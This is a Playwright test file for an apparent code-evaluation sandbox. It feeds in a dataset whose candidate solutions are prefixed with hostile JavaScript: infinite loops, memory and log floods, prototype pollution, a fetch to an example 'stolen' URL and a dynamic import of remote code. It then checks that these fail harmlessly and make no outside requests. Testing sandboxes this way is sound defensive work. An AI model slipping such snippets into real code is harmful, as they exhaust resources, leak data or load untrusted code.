/** Programs that mean harm, in a whole run: each is a failure of its own, and the run goes on. */
import { expect, test } from '@playwright/test';
import { downloadResult, openPage, waitForStatus } from './page';

const HOSTILE = [
  'while (true) {}',
  'const all = []; while (true) all.push(new Array(1e6).fill(1));',
  'for (let i = 0; i < 1e6; i++) console.log("x".repeat(100));',
  'Object.prototype.toString = () => "mine"; Array.prototype.map = () => [];',
  'fetch("https://example.org/stolen");',
  'import("https://example.org/code.js");',
  'for (;;) postMessage("flood");',
  'const deep = () => deep() + 1; deep();',
];

function row(i: number): string {
  const hostile = HOSTILE[i % HOSTILE.length]!;
  const good = `const double${i} = (n) => n * 2;`;
  const wrong = `const double${i} = () => 0;`;
  return JSON.stringify({
    task: `Write a function double${i}(n) that doubles a number.\nExamples:\n- double${i}(2) gives 4`,
    tests: `equal(double${i}(3), 6)\nequal(double${i}(0), 0)`,
    // Each stands before what is asked for, right or wrong; the last one is right and harmless.
    solutions: `[1]\n${hostile}\n${wrong}\n[2]\n${hostile}\n${good}\n[3]\n${wrong}\n[4]\n${good}`,
  });
}

test('endless loops, floods and attempts to get out end as failed programs', async ({ page }) => {
  test.setTimeout(240_000);
  const { foreign } = await openPage(page, 1, 20, '&system=verified-code&validation=n8&test=n16');
  await page.getByLabel(/your own data/i).setInputFiles({
    name: 'hostile.jsonl',
    mimeType: 'application/jsonl',
    buffer: Buffer.from(Array.from({ length: 48 }, (_, i) => row(i)).join('\n')),
  });
  await page.getByRole('button', { name: 'Use these data' }).click();
  await expect(page.getByTestId('data-summary')).toContainText('hostile.jsonl');
  // What the pools are worth is found out beside everything else, and said while it lasts.
  await expect(page.getByTestId('measuring')).toContainText('programs');
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.getByRole('main')).toHaveAttribute('data-status', /finished|failed/, {
    timeout: 200_000,
  });
  await waitForStatus(page, 'finished');
  const result = await downloadResult(page);
  expect(result.test.n).toBe(16);
  expect(result.test.failed).toBe(0);
  // Programs that cannot end pass nothing; what pollutes its own world harms nobody else.
  expect(result.test.initial).toBeLessThan(1);
  expect(result.test.final).toBeGreaterThan(0);
  expect(foreign).toEqual([]);
});
